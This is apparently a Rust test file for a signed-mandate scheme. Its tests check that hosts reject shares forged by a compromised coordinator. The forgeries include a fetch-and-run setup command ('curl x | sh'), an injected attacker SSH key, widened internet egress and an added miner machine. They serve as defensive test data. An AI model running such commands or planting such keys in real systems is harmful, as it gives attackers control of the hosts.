//! A coordinator gone bad: what it makes of a share, and what the host that is asked says to it.

use expect_test::expect;

use super::*;
use crate::{
    session::{
        Command, Decision, Refused, State,
        fixture::{SESSION, command, created, host_id, intent, inventory, started},
        plan, state,
    },
    topology::{Content, Contents, FileSpec},
};

const OPERATOR: Seed = Seed([1; 32]);
/// A member that may not operate.
const LIMITED: Seed = Seed([2; 32]);
const HOSTS: &str = "nas 9000 image";
const SHOP: &str = "db 1 256 disk=1024 setup=install\nweb 2 256 needs=db";

fn operator() -> HostId {
    HostId(OPERATOR.public())
}

fn tiny(_: &ImageRef) -> Option<Digest> {
    Some(Digest([1; 32]))
}

/// A topology with a file and an environment.
fn shop(text: &str) -> Intent {
    let mut shop = intent(text);
    let name: Name = "web".parse().unwrap();
    if let Some(group) = shop.topology.groups.get_mut(&name) {
        group.env = [("COLOUR".to_owned(), "green".to_owned())].into();
        let file = FileSpec { source: "app.toml".into(), mode: 0o644, owner: None };
        group.files = [("/etc/app.toml".to_owned(), file)].into();
        shop.files = [("app.toml".to_owned(), Content::of(b"port = 80"))].into();
    }
    shop
}

/// Signs and commits, as an operator and a coordinator do who are well.
fn up(state: State, text: &str, replace: &Replace) -> State {
    let intent = shop(text);
    let share = slice::share(&state, host_id("nas"));
    let mandate = Mandate::up(SESSION, Some(&share), (&intent, replace), tiny).sign(&OPERATOR);
    let mut contents = Contents::default();
    contents.add(b"port = 80");
    let state = command(state, Command::Keep(contents));
    let wanted = (&intent, replace);
    let plan = plan::propose(SESSION, Some(&state), wanted, &inventory(HOSTS)).plan.expect("a plan");
    let replace = replace.clone();
    command(state, Command::Signed { mandate, decision: Decision::Apply { intent, plan, replace } })
}

fn share(state: &State) -> Share {
    slice::share(state, host_id("nas"))
}

fn asked(share: &Share, known: Option<&Share>) -> Result<(), Unsigned> {
    judge(share, known, true, |host| host == operator())
}

fn machine(name: &str) -> MachineName {
    name.parse().unwrap()
}

/// Gives a share another mandate.
fn carrying(share: &Share, change: impl Fn(&mut Mandate), seed: &Seed) -> Share {
    let mut mandate = share.mandate.as_ref().unwrap().read().unwrap();
    mandate.number += 1;
    change(&mut mandate);
    Share { mandate: Some(mandate.sign(seed)), ..share.clone() }
}

#[test]
fn what_an_operator_signs_is_what_hosts_are_asked_for() {
    let first = started(up(created(), SHOP, &Replace::default()));
    assert_eq!(asked(&share(&first), None), Ok(()));
    let more = up(first.clone(), &SHOP.replace("web 2", "web 3"), &Replace::default());
    assert_eq!(asked(&share(&more), Some(&share(&first))), Ok(()));
    let fewer = up(more.clone(), &SHOP.replace("web 2", "web 1"), &Replace::default());
    assert_eq!(share(&fewer).drops.len(), 2);
    assert_eq!(asked(&share(&fewer), Some(&share(&more))), Ok(()));
    assert_eq!(asked(&share(&fewer), Some(&share(&first))), Ok(()), "also to one that was away");
    // A machine that comes back has its next epoch, and what was before is gone by the operator's word.
    let again = up(fewer.clone(), SHOP, &Replace::default());
    assert_eq!(asked(&share(&again), Some(&share(&more))), Ok(()));
    let anew = up(again.clone(), SHOP, &Replace { all: false, machines: [machine("db-1")].into() });
    assert_eq!(asked(&share(&anew), Some(&share(&again))), Ok(()));
    let known = share(&anew);
    let wish = Mandate::wish(&known, &machine("web-1"), false).unwrap().sign(&OPERATOR);
    let decision = Decision::Wish { machine: machine("web-1"), run: false };
    let stopped = command(anew, Command::Signed { mandate: wish, decision });
    assert_eq!(asked(&share(&stopped), Some(&known)), Ok(()));
    let end = Mandate::end(&share(&stopped)).unwrap().sign(&OPERATOR);
    let ended = command(stopped.clone(), Command::Signed { mandate: end, decision: Decision::End });
    assert_eq!(asked(&share(&ended), Some(&share(&stopped))), Ok(()));
}

/// What another host signed, with an operator's name on it.
fn renamed(good: &Share) -> Share {
    let mut forged = carrying(good, |_| {}, &LIMITED);
    forged.mandate.as_mut().unwrap().signer = operator();
    forged
}

/// What a coordinator gone bad may make of what an operator signed.
fn forgeries(old: &Share, good: &Share) -> Vec<(&'static str, Share)> {
    let spec = |share: &mut Share, name: &str, change: &dyn Fn(&mut MachineSpec)| {
        share.machines.iter_mut().filter(|spec| spec.machine == machine(name)).for_each(change);
    };
    let forge = |change: &dyn Fn(&mut Share)| {
        let mut forged = good.clone();
        change(&mut forged);
        forged
    };
    let ssh = "ssh-ed25519 AAAA mallory".to_owned();
    vec![
        ("another image", forge(&|s| spec(s, "db-1", &|m| m.image = Digest([9; 32])))),
        ("other files", forge(&|s| spec(s, "web-1", &|m| m.files[0].content = Content::of(b"other")))),
        ("files left out", forge(&|s| spec(s, "web-1", &|m| m.files.clear()))),
        (
            "other environment",
            forge(&|s| spec(s, "web-1", &|m| drop(m.env.insert("COLOUR".into(), "red".into())))),
        ),
        ("other setup", forge(&|s| spec(s, "db-1", &|m| m.setup.push("curl x | sh".into())))),
        ("another key", forge(&|s| spec(s, "db-1", &|m| m.ssh_keys.insert(0, ssh.clone())))),
        ("more reach", forge(&|s| spec(s, "db-1", &|m| m.egress = crate::topology::Egress::Internet))),
        ("more memory", forge(&|s| spec(s, "db-1", &|m| m.memory_mib = 9999))),
        ("a larger disk", forge(&|s| spec(s, "db-1", &|m| m.disk_mib = Some(9999)))),
        (
            "one machine more",
            forge(&|s| {
                let more = MachineSpec { machine: machine("web-4"), ..s.machines[1].clone() };
                s.machines.push(more);
            }),
        ),
        (
            "a group more",
            forge(&|s| {
                let more = MachineSpec { machine: machine("miner-1"), ..s.machines[0].clone() };
                s.machines.push(more);
            }),
        ),
        ("a machine removed", forge(&|s| s.drops.push((machine("db-1"), Epoch(1))))),
        ("a machine made anew", forge(&|s| spec(s, "db-1", &|m| m.epoch = Epoch(2)))),
        ("a machine stopped", forge(&|s| spec(s, "db-1", &|m| m.run = false))),
        (
            "the session ended",
            forge(&|s| {
                s.ended = true;
                s.drops = s.machines.drain(..).map(|spec| (spec.machine, spec.epoch)).collect();
            }),
        ),
        ("no mandate", forge(&|s| s.mandate = None)),
        ("an older mandate", Share { version: good.version + 9, ..old.clone() }),
        ("changed bytes", forge(&|s| s.mandate.as_mut().unwrap().bytes[9] ^= 1)),
        ("another session's", carrying(good, |m| m.session = SessionId([8; 16]), &OPERATOR)),
        ("the same number", carrying(good, |m| (m.number, m.ended) = (2, true), &OPERATOR)),
        ("signed without operate", carrying(good, |m| m.ended = true, &LIMITED)),
        ("signed by a stranger", carrying(good, |_| {}, &Seed([3; 32]))),
        ("another's name on it", renamed(good)),
    ]
}

#[test]
fn a_coordinator_gone_bad_gets_nothing_from_a_host_that_no_operator_signed() {
    let first = started(up(created(), SHOP, &Replace::default()));
    let now = up(first.clone(), &SHOP.replace("web 2", "web 3"), &Replace::default());
    let (old, good) = (share(&first), share(&now));
    let told: Vec<String> = forgeries(&old, &good)
        .iter()
        .map(|(what, share)| match asked(share, Some(&good)) {
            Ok(()) => format!("{what}: TAKEN"),
            Err(unsigned) => format!("{what}: {unsigned}"),
        })
        .collect();
    expect![[r#"
        another image: db-1 is to be made of another image than an operator said
        other files: web-1 is to be made with other settings, files or environment than an operator said
        files left out: web-1 is to be made with other settings, files or environment than an operator said
        other environment: web-1 is to be made with other settings, files or environment than an operator said
        other setup: db-1 is to be made with other settings, files or environment than an operator said
        another key: db-1 is to be made with other settings, files or environment than an operator said
        more reach: db-1 is to be made with other settings, files or environment than an operator said
        more memory: db-1 is to be made with other settings, files or environment than an operator said
        a larger disk: the disk of db-1 is to be larger than an operator said
        one machine more: no operator wants web-4
        a group more: no operator wants miner-1
        a machine removed: the disk of db-1 is to be deleted, and no operator said so
        a machine made anew: the disk of db-1 is to be deleted, and no operator said so
        a machine stopped: db-1 is to run, or not to run, against what an operator said
        the session ended: no operator ended the session, or one did and machines are to run
        no mandate: it carries no mandate
        an older mandate: its mandate is number 1, number 2 is known
        changed bytes: its mandate is forged
        another session's: its mandate is another session's
        the same number: its mandate is number 2, number 2 is known
        signed without operate: its mandate was signed by a host that is not allowed to operate sessions
        signed by a stranger: its mandate was signed by a host that is not allowed to operate sessions
        another's name on it: its mandate is forged"#]]
    .assert_eq(&told.join("\n"));
}

#[test]
fn a_mandate_that_was_taken_stays_good_and_new_ones_of_an_evicted_signer_are_refused() {
    let first = up(created(), SHOP, &Replace::default());
    let known = share(&first);
    let nobody = |_: HostId| false;
    let moved = Share { version: known.version + 1, ..known.clone() };
    assert_eq!(judge(&moved, Some(&known), true, nobody), Ok(()));
    let next = carrying(&known, |_| {}, &OPERATOR);
    assert_eq!(judge(&next, Some(&known), true, nobody), Err(Unsigned::Signer));
    assert_eq!(asked(&next, Some(&known)), Ok(()));
}

#[test]
fn a_session_of_before_has_none_until_its_first_one() {
    let state = crate::session::fixture::up(created(), SHOP, HOSTS);
    let plain = share(&state);
    assert_eq!(judge(&plain, None, false, |_| true), Ok(()));
    assert_eq!(judge(&plain, None, true, |_| true), Err(Unsigned::Missing), "its birth says otherwise");
    assert_eq!(Mandate::wish(&plain, &machine("db-1"), false), None);
    assert_eq!(Mandate::end(&plain), None);
    let signed = up(state, SHOP, &Replace::default());
    assert_eq!(asked(&share(&signed), Some(&plain)), Ok(()));
    assert_eq!(judge(&plain, Some(&share(&signed)), false, |_| true), Err(Unsigned::Missing));
}

#[test]
fn the_hard_state_takes_one_mandate_after_the_other_and_nothing_without() {
    let first = up(created(), SHOP, &Replace::default());
    let outcome = |command: Command| state::apply(Some(first.clone()), command).1;
    let wish = || Command::Wish { machine: machine("db-1"), run: false };
    assert_eq!(outcome(wish()), Err(Refused::Mandate { current: 1 }));
    assert_eq!(outcome(Command::End), Err(Refused::Mandate { current: 1 }));
    let signed = |change: &dyn Fn(&mut Mandate)| {
        let mut mandate = Mandate::end(&share(&first)).unwrap();
        change(&mut mandate);
        Command::Signed { mandate: mandate.sign(&OPERATOR), decision: Decision::End }
    };
    for wrong in [
        signed(&|m| m.number = 1),
        signed(&|m| m.number = 3),
        signed(&|m| m.parent = None),
        signed(&|m| m.session = SessionId([8; 16])),
    ] {
        assert_eq!(outcome(wrong), Err(Refused::Mandate { current: 1 }));
    }
    assert_eq!(outcome(signed(&|_| {})), Ok(()));
    let late = state::apply(Some(command(first.clone(), signed(&|_| {}))), signed(&|m| m.number = 3)).1;
    assert_eq!(late, Err(Refused::Ended));
}
